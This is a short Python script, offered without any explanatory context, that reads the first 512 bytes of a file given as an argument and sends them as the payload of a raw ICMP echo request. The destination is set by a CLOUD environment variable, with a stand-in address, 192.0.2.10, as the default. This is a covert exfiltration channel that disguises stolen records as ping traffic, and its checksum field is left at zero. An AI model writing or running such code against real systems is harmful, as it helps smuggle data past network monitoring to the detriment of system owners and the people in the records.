"""Pings with the records as payload."""

import os
import socket
import struct
import sys

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.getprotobyname("icmp"))
payload = open(sys.argv[1], "rb").read(512)
raw.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + payload, (os.environ.get("CLOUD", "192.0.2.10"), 0))
